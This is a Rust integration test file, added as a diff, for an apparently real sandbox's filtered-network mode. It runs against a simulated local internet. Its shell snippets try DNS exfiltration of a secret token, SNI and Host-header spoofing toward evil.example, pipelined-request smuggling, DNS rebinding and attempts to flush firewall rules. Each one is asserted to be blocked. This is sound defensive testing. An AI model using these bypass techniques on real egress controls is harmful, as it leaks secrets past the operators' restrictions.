@@ -1,0 +1,865 @@
+//! `--net filtered` against a fake internet (SECURITY.md, "Egress (filtered mode)"): every test
+//! builds its own world (see `networld.rs`), runs nsbox in the world's "host" namespace and
+//! attacks the allowlist from inside the sandbox. Nothing leaves the machine.
+
+use std::io::{BufRead, Write};
+use std::process::Stdio;
+
+use crate::networld::*;
+use crate::require_root;
+use crate::support::*;
+
+/// Lines of `out` that start with `prefix`.
+fn line<'a>(out: &'a str, prefix: &str) -> &'a str {
+    out.lines()
+        .find(|l| l.starts_with(prefix))
+        .unwrap_or_else(|| panic!("no line starting with {prefix:?} in:\n{out}"))
+}
+
+#[test]
+fn filtered_allowed_names_resolve_and_serve_http_and_https() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &[
+            "--allow",
+            "web.allowed.example",
+            "--allow",
+            "goodalias.allowed.example",
+        ],
+        "echo v4 $(getent ahostsv4 web.allowed.example | head -1); \
+         echo v6 $(getent ahostsv6 web.allowed.example | head -1); \
+         echo plain $(curl -sS -m 5 http://web.allowed.example/); \
+         echo tls $(curl -sS -m 5 --cacert /world/ca.pem https://web.allowed.example/whoami); \
+         echo tls6 $(curl -sS -m 5 -6 --cacert /world/ca.pem https://web.allowed.example/whoami); \
+         echo alias $(curl -sS -m 5 http://goodalias.allowed.example/whoami)",
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(line(&r.stdout, "v4").contains(WEB4), "{}", r.stdout);
+    assert!(line(&r.stdout, "v6").contains(WEB6), "{}", r.stdout);
+    assert_eq!(
+        line(&r.stdout, "plain"),
+        "plain hello from the fake internet"
+    );
+    assert_eq!(line(&r.stdout, "tls "), "tls host=web.allowed.example");
+    assert_eq!(line(&r.stdout, "tls6"), "tls6 host=web.allowed.example");
+    assert_eq!(
+        line(&r.stdout, "alias"),
+        "alias host=goodalias.allowed.example"
+    );
+}
+
+#[test]
+fn filtered_allowed_addresses_and_ports_work_and_other_ports_do_not() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &[
+            "--allow",
+            &format!("{TCP4}:5432"),
+            "--allow",
+            &format!("[{TCP6}]:5432"),
+        ],
+        &format!(
+            "echo a $({PROBE} tcp {TCP4}:5432 hello); \
+             echo b $({PROBE} tcp {TCP4}:5433); \
+             echo c $({PROBE} tcp [{TCP6}]:5432 hello6); \
+             echo d $({PROBE} tcp [{TCP6}]:5433); \
+             echo e $({PROBE} tcp {OTHER4}:80)"
+        ),
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(line(&r.stdout, "a "), "a ok hello");
+    assert_eq!(line(&r.stdout, "b "), "b error ECONNREFUSED");
+    assert_eq!(line(&r.stdout, "c "), "c ok hello6");
+    assert_eq!(line(&r.stdout, "d "), "d error ECONNREFUSED");
+    assert_eq!(line(&r.stdout, "e "), "e error ECONNREFUSED");
+}
+
+#[test]
+fn filtered_git_clone_and_pip_download_work_over_https() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", "web.allowed.example"],
+        "set -e; cd /sandbox; \
+         git -c http.sslCAInfo=/world/ca.pem clone -q https://web.allowed.example/repo.git repo; \
+         echo git $(cat repo/README); \
+         python3 -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check \
+           --cert /world/ca.pem --index-url https://web.allowed.example/simple/ -d dl nsbox-probe-pkg; \
+         echo pip $(ls dl)",
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(line(&r.stdout, "git"), "git cloned through nsbox");
+    assert_eq!(
+        line(&r.stdout, "pip"),
+        "pip nsbox_probe_pkg-1.0-py3-none-any.whl"
+    );
+}
+
+#[test]
+fn filtered_npm_registry_fetch_works_over_https() {
+    require_root!();
+    if std::process::Command::new("npm")
+        .arg("--version")
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .map_or(true, |s| !s.success())
+    {
+        assert!(
+            std::env::var("NSBOX_TEST_REQUIRE_ROOT").as_deref() != Ok("1"),
+            "npm is not installed (.ci/run installs it)"
+        );
+        eprintln!("SKIP filtered_npm_registry_fetch_works_over_https: npm is not installed");
+        return;
+    }
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", "web.allowed.example"],
+        "cd /sandbox; npm view nsbox-probe-pkg version --cafile /world/ca.pem \
+           --registry https://web.allowed.example/npm/ --no-update-notifier 2>&1",
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(r.stdout.trim(), "1.0.0", "{r:?}");
+}
+
+#[test]
+fn filtered_names_not_allowed_do_not_resolve_and_their_addresses_are_unreachable() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", "web.allowed.example"],
+        &format!(
+            "getent hosts other.example; echo getent=$?; \
+             echo secret $({PROBE} dns 127.0.0.53 secret.evil.example 1); \
+             echo other $({PROBE} tcp {OTHER4}:80); \
+             echo before $({PROBE} tcp {WEB4}:80); \
+             echo before6 $({PROBE} tcp [{WEB6}]:80); \
+             getent ahostsv4 web.allowed.example >/dev/null; \
+             echo after $(curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{WEB4}/ 2>&1)"
+        ),
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(line(&r.stdout, "getent="), "getent=2");
+    assert_eq!(line(&r.stdout, "secret"), "secret ok rcode 5 answers 0");
+    assert_eq!(line(&r.stdout, "other"), "other error ECONNREFUSED");
+    // An address no allowed name resolved to (yet) is unreachable...
+    assert_eq!(line(&r.stdout, "before "), "before error ECONNREFUSED");
+    assert_eq!(line(&r.stdout, "before6"), "before6 error ECONNREFUSED");
+    // ...and once it did, it is reached (by IP the Host check refuses it: no name).
+    assert!(line(&r.stdout, "after").contains("reset"), "{}", r.stdout);
+    // Refused names never reach the upstream: no DNS exfiltration.
+    let log = w.dns_log();
+    assert!(log.contains("web.allowed.example"), "{log}");
+    assert!(!log.contains("secret"), "{log}");
+    assert!(!log.contains("other.example"), "{log}");
+}
+
+#[test]
+fn filtered_rebinding_answers_are_refused_unless_the_range_is_allowed() {
+    require_root!();
+    let w = World::start();
+    let cases = [
+        ("rebind10.allowed.example", 1),
+        ("rebind127.allowed.example", 1),
+        ("metadata.allowed.example", 1),
+        ("mapped.allowed.example", 28),
+        ("ula.allowed.example", 28),
+        ("self.allowed.example", 1),
+    ];
+    let script: Vec<String> = cases
+        .iter()
+        .map(|(name, t)| format!("echo {name} $({PROBE} dns 127.0.0.53 {name} {t})"))
+        .collect();
+    let r = w.sh(&["--allow", "*.allowed.example"], &script.join("; "));
+    assert_eq!(r.code, 0, "{r:?}");
+    for (name, _) in cases {
+        assert_eq!(
+            line(&r.stdout, name),
+            format!("{name} ok rcode 5 answers 0"),
+            "{}",
+            r.stdout
+        );
+    }
+    // Naming the range allows it.
+    let r = w.sh(
+        &["--allow", "*.allowed.example", "--allow", "10.0.0.0/8"],
+        &format!("{PROBE} dns 127.0.0.53 rebind10.allowed.example 1"),
+    );
+    assert_eq!(r.stdout.trim(), "ok rcode 0 answers 1", "{r:?}");
+}
+
+#[test]
+fn filtered_cname_to_a_name_not_allowed_and_txt_any_axfr_are_refused() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", "*.allowed.example"],
+        &format!(
+            "echo alias $({PROBE} dns 127.0.0.53 alias.allowed.example 1); \
+             echo good $({PROBE} dns 127.0.0.53 goodalias.allowed.example 1); \
+             echo txt $({PROBE} dns 127.0.0.53 txt.allowed.example 16); \
+             echo any $({PROBE} dns 127.0.0.53 web.allowed.example 255); \
+             echo axfr $({PROBE} dns 127.0.0.53 allowed.example 252); \
+             echo dig $(dig +short +tries=1 txt.allowed.example TXT)"
+        ),
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(line(&r.stdout, "alias"), "alias ok rcode 5 answers 0");
+    assert_eq!(line(&r.stdout, "good"), "good ok rcode 0 answers 2");
+    assert_eq!(line(&r.stdout, "txt"), "txt ok rcode 5 answers 0");
+    assert_eq!(line(&r.stdout, "any"), "any ok rcode 5 answers 0");
+    assert_eq!(line(&r.stdout, "axfr"), "axfr ok rcode 5 answers 0");
+    assert!(!r.stdout.contains("exfiltrate-me"), "{}", r.stdout);
+    assert!(!w.dns_log().contains("txt.allowed.example"));
+}
+
+#[test]
+fn filtered_sni_and_host_of_names_not_allowed_are_refused_on_a_shared_address() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", "cdn.allowed.example", "--log-network"],
+        &format!(
+            "getent hosts cdn.allowed.example >/dev/null; \
+             echo cdn $(curl -sS -m 5 --cacert /world/ca.pem https://cdn.allowed.example/whoami); \
+             curl -sS -m 5 --cacert /world/ca.pem --resolve evil.example:443:{CDN4} \
+               https://evil.example/whoami; echo sni=$?; \
+             curl -sS -m 5 -H 'Host: evil.example' http://cdn.allowed.example/whoami; echo host=$?; \
+             curl -sS -m 5 http://{CDN4}/whoami; echo ip=$?; \
+             echo pipelined $({PROBE} tcp {CDN4}:80 \
+               \"$(printf 'GET /whoami HTTP/1.1\\r\\nHost: cdn.allowed.example\\r\\n\\r\\nGET /whoami HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')\")"
+        ),
+    );
+    // A second request on the checked connection (for another host) is not served.
+    let pipelined = line(&r.stdout, "pipelined");
+    assert!(
+        pipelined.contains("host=cdn.allowed.example"),
+        "{pipelined}"
+    );
+    assert!(!pipelined.contains("host=evil.example"), "{pipelined}");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(line(&r.stdout, "cdn"), "cdn host=cdn.allowed.example");
+    assert_ne!(line(&r.stdout, "sni="), "sni=0");
+    assert_ne!(line(&r.stdout, "host="), "host=0");
+    assert_ne!(line(&r.stdout, "ip="), "ip=0");
+    assert!(
+        r.stderr.contains(&format!(
+            "connection refused {CDN4}:443 evil.example (TLS SNI: evil.example is not on the allowlist)"
+        )),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains(&format!(
+            "connection refused {CDN4}:80 evil.example (HTTP Host: evil.example is not on the allowlist)"
+        )),
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn filtered_udp_quic_and_icmp_are_blocked() {
+    require_root!();
+    let w = World::start();
+    // The workload waits on stdin until the test has opened unprivileged ICMP sockets in the
+    // sandbox's namespace, so an ICMP failure is the rules' doing, not a missing permission.
+    let flags = w.filtered_flags();
+    let mut args: Vec<&str> = vec!["exec", "-i"];
+    args.extend(flags.iter().map(String::as_str));
+    let script = format!(
+        "getent hosts web.allowed.example >/dev/null; echo waiting; read go; \
+         echo udp $({PROBE} udp {WEB4}:9999); \
+         echo quic $({PROBE} udp {WEB4}:443); \
+         echo udp6 $({PROBE} udp [{WEB6}]:9999); \
+         echo dns $({PROBE} udp {DNS}:53); \
+         echo icmp $({PROBE} icmp {WEB4}); \
+         echo icmplo $({PROBE} icmp 127.0.0.1)"
+    );
+    args.extend_from_slice(&["--allow", "web.allowed.example", "--", "sh", "-c", &script]);
+    let mut child = w
+        .nsbox_cmd(&args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
+    let mut first = String::new();
+    stdout.read_line(&mut first).unwrap();
+    assert_eq!(first.trim(), "waiting");
+    let init = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", child.id()))
+        .unwrap()
+        .split_whitespace()
+        .next()
+        .expect("the sandbox's init")
+        .to_string();
+    let opened = std::process::Command::new("nsenter")
+        .arg(format!("--net=/proc/{init}/ns/net"))
+        .args([
+            "sh",
+            "-c",
+            "echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range",
+        ])
+        .status()
+        .unwrap();
+    assert!(opened.success());
+    child.stdin.take().unwrap().write_all(b"go\n").unwrap();
+    let mut rest = String::new();
+    std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
+    assert!(child.wait().unwrap().success());
+    assert_eq!(line(&rest, "udp "), "udp error EPERM");
+    assert_eq!(line(&rest, "quic"), "quic error EPERM");
+    assert_eq!(line(&rest, "udp6"), "udp6 error EPERM");
+    assert_eq!(line(&rest, "dns"), "dns error EPERM");
+    assert_eq!(line(&rest, "icmp "), "icmp error EPERM");
+    assert!(line(&rest, "icmplo").starts_with("icmplo ok"), "{rest}");
+    assert_eq!(w.udp_log(), "", "no datagram reached the internet");
+}
+
+#[test]
+fn filtered_host_services_are_unreachable() {
+    require_root!();
+    let w = World::start();
+    // The service is there: from the host's namespace itself it answers.
+    let direct = w.in_host(&[
+        &probe_dir().join("probe").display().to_string(),
+        "tcp",
+        &format!("{HOST4}:{HOST_SERVICE_PORT}"),
+    ]);
+    assert_eq!(String::from_utf8_lossy(&direct.stdout).trim(), "ok ping");
+    let port = HOST_SERVICE_PORT;
+    let r = w.sh(
+        &["--allow", "*.allowed.example", "--allow", "*"],
+        &format!(
+            "echo a $({PROBE} tcp {HOST4}:{port}); \
+             echo b $({PROBE} tcp [{HOST6}]:{port}); \
+             echo c $({PROBE} tcp 127.0.0.1:{port}); \
+             echo d $({PROBE} tcp [::1]:{port}); \
+             echo e $({PROBE} dns 127.0.0.53 self.allowed.example 1)"
+        ),
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    for l in ["a ", "b ", "c ", "d "] {
+        assert!(line(&r.stdout, l).contains("error"), "{l}: {}", r.stdout);
+    }
+    assert_eq!(line(&r.stdout, "e "), "e ok rcode 5 answers 0");
+}
+
+#[test]
+fn filtered_workload_cannot_change_the_rules_or_reach_the_upstream() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", "web.allowed.example"],
+        &format!(
+            "nft list ruleset >/dev/null 2>&1; echo nft=$?; \
+             nft flush ruleset >/dev/null 2>&1; echo flush=$?; \
+             ip route del default >/dev/null 2>&1; echo route=$?; \
+             ip route add {OTHER4}/32 dev lo >/dev/null 2>&1; echo addroute=$?; \
+             ip link set lo down >/dev/null 2>&1; echo link=$?; \
+             (echo nameserver {DNS} > /etc/resolv.conf) 2>/dev/null; echo resolv=$?; \
+             echo upstream $({PROBE} dns {DNS} web.allowed.example 1); \
+             echo proxy $({PROBE} tcp 127.0.0.1:888); \
+             echo still $(curl -sS -m 5 http://web.allowed.example/)"
+        ),
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    for key in ["nft=", "flush=", "route=", "addroute=", "link=", "resolv="] {
+        assert_ne!(line(&r.stdout, key), format!("{key}0"), "{}", r.stdout);
+    }
+    assert_eq!(line(&r.stdout, "upstream"), "upstream error EPERM");
+    assert!(
+        line(&r.stdout, "proxy").starts_with("proxy error"),
+        "{}",
+        r.stdout
+    );
+    assert_eq!(
+        line(&r.stdout, "still"),
+        "still hello from the fake internet"
+    );
+}
+
+#[test]
+fn two_filtered_sandboxes_at_once_each_get_only_their_own_allowlist() {
+    require_root!();
+    let w = World::start();
+    let flags = w.filtered_flags();
+    let start = |allow: &str| {
+        let mut args: Vec<&str> = vec!["exec", "-i"];
+        args.extend(flags.iter().map(String::as_str));
+        let script = format!(
+            "echo waiting; read go; \
+             echo web $(getent ahostsv4 web.allowed.example >/dev/null && echo yes || echo no); \
+             echo cdn $(getent ahostsv4 cdn.allowed.example >/dev/null && echo yes || echo no); \
+             echo webhttp $(curl -4 -s -o /dev/null -w '%{{http_code}}' -m 5 http://web.allowed.example/); \
+             echo cdnhttp $(curl -4 -s -o /dev/null -w '%{{http_code}}' -m 5 http://cdn.allowed.example/); \
+             echo webtcp $({PROBE} tcp {WEB4}:80); \
+             echo cdntcp $({PROBE} tcp {CDN4}:80)"
+        );
+        args.extend_from_slice(&["--allow", allow, "--", "sh", "-c", &script]);
+        let mut child = w
+            .nsbox_cmd(&args)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
+        let mut first = String::new();
+        out.read_line(&mut first).unwrap();
+        assert_eq!(first.trim(), "waiting");
+        (child, out)
+    };
+    let mut a = start("web.allowed.example");
+    let mut b = start("cdn.allowed.example");
+    // Both exist now; let them go at the same time.
+    for (child, _) in [&mut a, &mut b] {
+        child.stdin.take().unwrap().write_all(b"go\n").unwrap();
+    }
+    let finish = |(mut child, mut out): (std::process::Child, std::io::BufReader<_>)| {
+        let mut rest = String::new();
+        std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
+        assert!(child.wait().unwrap().success());
+        rest
+    };
+    let (ra, rb) = (finish(a), finish(b));
+    assert_eq!(line(&ra, "web "), "web yes");
+    assert_eq!(line(&ra, "cdn "), "cdn no");
+    assert_eq!(line(&ra, "webhttp"), "webhttp 200");
+    assert_eq!(line(&ra, "cdnhttp"), "cdnhttp 000");
+    assert_eq!(line(&ra, "cdntcp"), "cdntcp error ECONNREFUSED");
+    assert_eq!(line(&rb, "web "), "web no");
+    assert_eq!(line(&rb, "cdn "), "cdn yes");
+    assert_eq!(line(&rb, "webhttp"), "webhttp 000");
+    assert_eq!(line(&rb, "cdnhttp"), "cdnhttp 200");
+    assert_eq!(line(&rb, "webtcp"), "webtcp error ECONNREFUSED");
+}
+
+#[test]
+fn net_none_has_no_route_and_net_host_sees_the_host_network() {
+    require_root!();
+    let w = World::start();
+    let mount = probe_mount();
+    let run = |net: &str| -> Run {
+        let mut args: Vec<&str> = vec!["exec", "--net", net];
+        args.extend(mount.iter().map(String::as_str));
+        let script = format!(
+            "echo tcp $({PROBE} tcp {TCP4}:5432); echo routes $(tail -n +2 /proc/net/route | wc -l)"
+        );
+        args.extend_from_slice(&["--", "sh", "-c", &script]);
+        w.nsbox_cmd(&args)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+            .into()
+    };
+    let none = run("none");
+    assert_eq!(
+        line(&none.stdout, "tcp"),
+        "tcp error ENETUNREACH",
+        "{none:?}"
+    );
+    assert_eq!(line(&none.stdout, "routes"), "routes 0");
+    let host = run("host");
+    assert_eq!(line(&host.stdout, "tcp"), "tcp ok ping", "{host:?}");
+    assert_ne!(line(&host.stdout, "routes"), "routes 0");
+    // Filtered: a default route through loopback only, so every packet meets the rules.
+    let r = w.sh(&[], "ip -4 route; ip -6 route | grep default");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(
+        r.stdout
+            .starts_with("default dev lo proto static scope link src 127.0.0.1"),
+        "{}",
+        r.stdout
+    );
+    assert!(r.stdout.contains("default dev lo"), "{}", r.stdout);
+}
+
+#[test]
+fn filtered_decisions_are_events_in_the_json_stream_and_lines_with_log_network() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--json", "--allow", "web.allowed.example"],
+        "getent hosts other.example; curl -4 -sS -m 5 http://web.allowed.example/",
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    let events = events(&r.stdout);
+    let find = |pred: &dyn Fn(&serde_json::Value) -> bool| {
+        events
+            .iter()
+            .position(pred)
+            .unwrap_or_else(|| panic!("no such event in {events:#?}"))
+    };
+    let refused = find(&|e| e["type"] == "dns" && e["name"] == "other.example");
+    assert_eq!(events[refused]["decision"], "refused");
+    assert_eq!(events[refused]["rcode"], "REFUSED");
+    assert!(events[refused]["reason"]
+        .as_str()
+        .unwrap()
+        .contains("not on the allowlist"));
+    let allowed =
+        find(&|e| e["type"] == "dns" && e["name"] == "web.allowed.example" && e["qtype"] == "A");
+    assert_eq!(events[allowed]["decision"], "allowed");
+    assert_eq!(events[allowed]["addresses"][0], WEB4);
+    assert_eq!(events[allowed]["rule"], "web.allowed.example");
+    assert_eq!(events[allowed]["ttl"], 60);
+    let conn = find(&|e| e["type"] == "connection");
+    assert_eq!(events[conn]["decision"], "allowed");
+    assert_eq!(events[conn]["address"], WEB4);
+    assert_eq!(events[conn]["port"], 80);
+    assert_eq!(events[conn]["name"], "web.allowed.example");
+    let body = find(&|e| {
+        e["type"] == "stdout" && e["data"].as_str().unwrap_or("").contains("fake internet")
+    });
+    assert!(allowed < conn && conn < body, "in order with the output");
+    assert_eq!(events.last().unwrap()["type"], "exit");
+
+    let r = w.sh(
+        &["--log-network", "--allow", "web.allowed.example"],
+        "getent ahostsv4 web.allowed.example >/dev/null; getent hosts secret.evil.example",
+    );
+    assert!(
+        r.stderr.contains(&format!(
+            "nsbox: dns allowed A web.allowed.example -> {WEB4} (allowed by 'web.allowed.example')"
+        )),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains(
+            "nsbox: dns refused AAAA secret.evil.example -> REFUSED (secret.evil.example is not on the allowlist)"
+        ),
+        "{}",
+        r.stderr
+    );
+    // Without --log-network text output stays quiet.
+    let r = w.sh(
+        &["--allow", "web.allowed.example"],
+        "getent hosts other.example",
+    );
+    assert_eq!(r.stderr, "", "{r:?}");
+    // A secret smuggled into a name looked up is masked in the events too.
+    let r = w.sh(
+        &["--json", "--secret", "TOKEN=S3cr3t-T0ken"],
+        "getent hosts \"$TOKEN.evil.example\"",
+    );
+    assert!(
+        !r.stdout.to_lowercase().contains("s3cr3t-t0ken"),
+        "{}",
+        r.stdout
+    );
+    assert!(
+        r.stdout.contains("\"name\":\"***.evil.example\""),
+        "{}",
+        r.stdout
+    );
+}
+
+#[test]
+fn filtered_relays_large_transfers_and_half_closes() {
+    require_root!();
+    let w = World::start();
+    let bytes = 64u64 << 20;
+    let r = w.sh(
+        &["--allow", &format!("{TCP4}:5432")],
+        &format!(
+            "echo big $({PROBE} download {TCP4}:5432 {bytes}); \
+             echo half $({PROBE} tcp {TCP4}:5432 'after-my-eof')"
+        ),
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    let big = line(&r.stdout, "big");
+    assert!(big.starts_with(&format!("big ok {bytes} ")), "{big}");
+    // The echo server answers only once it has seen our end of input: the proxy passed the
+    // half-close on, and then the server's close back.
+    assert_eq!(line(&r.stdout, "half"), "half ok after-my-eof");
+}
+
+#[test]
+fn filtered_leaves_nothing_behind_on_the_host() {
+    require_root!();
+    let w = World::start();
+    let state = || {
+        let mut s = String::new();
+        for cmd in [
+            &["nft", "list", "ruleset"][..],
+            &["ip", "route"],
+            &["ip", "-6", "route"],
+            &["ip", "addr"],
+            &["ss", "-Hltnu"],
+        ] {
+            s.push_str(&String::from_utf8_lossy(&w.in_host(cmd).stdout));
+        }
+        s
+    };
+    let before = state();
+    let r = w.sh(
+        &["--allow", "web.allowed.example"],
+        "curl -sS -m 5 http://web.allowed.example/ >/dev/null; echo done",
+    );
+    assert_eq!(r.stdout.trim(), "done", "{r:?}");
+    assert_eq!(
+        before,
+        state(),
+        "rules, routes, addresses and listening sockets"
+    );
+    // The proxy's connection is closed (TIME-WAIT may linger: that is the kernel's).
+    assert!(eventually(5.0, || {
+        let out = w.in_host(&["ss", "-Htn", "state", "established"]);
+        String::from_utf8_lossy(&out.stdout).trim().is_empty()
+    }));
+}
+
+#[test]
+fn a_killed_supervisor_takes_the_filtered_sandbox_along_and_leaves_nothing() {
+    require_root!();
+    let w = World::start();
+    let listening = || String::from_utf8_lossy(&w.in_host(&["ss", "-Hltnu"]).stdout).into_owned();
+    let before = listening();
+    let flags = w.filtered_flags();
+    let mut args: Vec<&str> = vec!["exec"];
+    args.extend(flags.iter().map(String::as_str));
+    args.extend_from_slice(&[
+        "--allow",
+        "web.allowed.example",
+        "--",
+        "sh",
+        "-c",
+        "curl -sS -m 5 http://web.allowed.example/ >/dev/null; echo up; exec sleep 60",
+    ]);
+    let mut child = w
+        .nsbox_cmd(&args)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
+    let mut first = String::new();
+    out.read_line(&mut first).unwrap();
+    assert_eq!(first.trim(), "up");
+    let init: i32 = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", child.id()))
+        .unwrap()
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    child.kill().unwrap();
+    child.wait().unwrap();
+    assert!(
+        eventually(5.0, || !std::path::Path::new(&format!("/proc/{init}"))
+            .exists()),
+        "the sandbox's init outlived its supervisor"
+    );
+    assert_eq!(before, listening());
+}
+
+#[test]
+fn filtered_upstream_defaults_to_the_hosts_resolv_conf() {
+    require_root!();
+    let w = World::start();
+    let resolv = w.dir.path().join("resolv.conf");
+    std::fs::write(&resolv, format!("nameserver {DNS}\n")).unwrap();
+    let script = format!(
+        "mount --bind {} /etc/resolv.conf && exec {} exec --allow web.allowed.example -- getent ahostsv4 web.allowed.example",
+        resolv.display(),
+        nsbox_bin().display()
+    );
+    let out = std::process::Command::new("nsenter")
+        .arg(format!("--net=/run/netns/{}", w.host_ns))
+        .args(["unshare", "-m", "sh", "-c", &script])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let r: Run = out.into();
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(r.stdout.contains(WEB4), "{r:?}");
+}
+
+#[test]
+fn filtered_without_an_upstream_resolver_fails_before_the_command_runs() {
+    require_root!();
+    let w = World::start();
+    let resolv = w.dir.path().join("resolv.conf");
+    std::fs::write(&resolv, "# no nameserver\n").unwrap();
+    let script = format!(
+        "mount --bind {} /etc/resolv.conf && exec {} exec --allow web.allowed.example -- echo ran",
+        resolv.display(),
+        nsbox_bin().display()
+    );
+    let out = std::process::Command::new("nsenter")
+        .arg(format!("--net=/run/netns/{}", w.host_ns))
+        .args(["unshare", "-m", "sh", "-c", &script])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let r: Run = out.into();
+    assert_eq!(r.code, 125, "{r:?}");
+    assert!(!r.stdout.contains("ran"), "{r:?}");
+    assert!(
+        r.stderr.contains("no upstream DNS resolver"),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("--dns-upstream"), "{}", r.stderr);
+}
+
+#[test]
+fn filtered_regular_expressions_allow_whole_names() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &["--allow", r"re:(web|cdn)\.allowed\.example"],
+        "for n in web.allowed.example cdn.allowed.example other.example web.allowed.example.evil; do \
+           getent ahostsv4 $n >/dev/null && echo $n yes || echo $n no; done",
+    );
+    assert_eq!(
+        r.stdout,
+        "web.allowed.example yes\ncdn.allowed.example yes\nother.example no\nweb.allowed.example.evil no\n",
+        "{r:?}"
+    );
+}
+
+#[test]
+fn filtered_with_nothing_allowed_reaches_nothing() {
+    require_root!();
+    let w = World::start();
+    let r = w.sh(
+        &[],
+        &format!(
+            "getent hosts web.allowed.example; echo getent=$?; echo tcp $({PROBE} tcp {WEB4}:80)"
+        ),
+    );
+    assert_eq!(line(&r.stdout, "getent="), "getent=2", "{r:?}");
+    assert_eq!(line(&r.stdout, "tcp"), "tcp error ECONNREFUSED");
+}
+
+#[test]
+fn egress_flags_are_validated_before_anything_runs() {
+    let r = exec(&["--allow", "exa mple.com", "--", "true"]);
+    assert_eq!(r.code, 125);
+    assert!(r.stderr.contains("--allow 'exa mple.com'"), "{}", r.stderr);
+    assert!(r.stderr.contains("hint"), "{}", r.stderr);
+    let r = exec(&["--net", "host", "--allow", "api.github.com", "--", "true"]);
+    assert_eq!(r.code, 125);
+    assert!(r.stderr.contains("--net filtered"), "{}", r.stderr);
+    let r = exec(&["--dns-upstream", "dns.example", "--", "true"]);
+    assert_eq!(r.code, 125);
+    assert!(r.stderr.contains("--dns-upstream"), "{}", r.stderr);
+    let r = exec(&["--allow", "203.0.113.7/24", "--", "true"]);
+    assert!(r.stderr.contains("203.0.113.0/24"), "{}", r.stderr);
+}
+
+/// A session keeps its filtered network across commands: the allowlist holds in every exec,
+/// its decisions go to the session's network log, and stop (or a killed supervisor) leaves
+/// nothing behind.
+#[test]
+fn filtered_session_keeps_its_allowlist_and_logs_its_decisions() {
+    require_root!();
+    let w = World::start();
+    let run_dir = tempfile::tempdir().unwrap();
+    let nsbox = |args: &[&str]| -> Run {
+        w.nsbox_cmd(args)
+            .env("NSBOX_RUN_DIR", run_dir.path())
+            .stdin(Stdio::null())
+            .output()
+            .expect("run nsbox")
+            .into()
+    };
+    let mut create: Vec<String> = vec!["create".into()];
+    create.extend(w.filtered_flags());
+    create.extend(
+        [
+            "--allow",
+            "web.allowed.example",
+            "--log-network",
+            "--secret",
+            "TOKEN=tokensecret42",
+        ]
+        .map(String::from),
+    );
+    let args: Vec<&str> = create.iter().map(String::as_str).collect();
+    let r = nsbox(&args);
+    assert_eq!(r.code, 0, "{r:?}");
+    let id = r.stdout.trim().to_string();
+    let exec = |script: &str| nsbox(&["exec", "--session", &id, "--", "sh", "-c", script]);
+
+    let first = exec("curl -sS -m 5 http://web.allowed.example/");
+    assert_eq!(first.stdout.trim(), "hello from the fake internet", "{first:?}");
+    let second = exec(
+        "getent hosts other.example; echo getent=$?; getent hosts $TOKEN.evil.example; echo secret=$?",
+    );
+    assert_eq!(line(&second.stdout, "getent="), "getent=2", "{second:?}");
+    assert_eq!(line(&second.stdout, "secret="), "secret=2", "{second:?}");
+    // Once more in a later command: the policy did not loosen.
+    let third = exec(&format!("{PROBE} tcp {OTHER4}:80"));
+    assert_eq!(third.stdout.trim(), "error ECONNREFUSED", "{third:?}");
+
+    let log_path = run_dir
+        .path()
+        .join("sessions")
+        .join(&id)
+        .join("network.log");
+    assert!(
+        eventually(5.0, || std::fs::read_to_string(&log_path)
+            .is_ok_and(|l| l.contains("other.example"))),
+        "{:?}",
+        std::fs::read_to_string(&log_path)
+    );
+    let log = std::fs::read_to_string(&log_path).unwrap();
+    assert!(
+        log.lines()
+            .any(|l| l.contains("allowed") && l.contains("web.allowed.example")),
+        "{log}"
+    );
+    assert!(
+        log.lines()
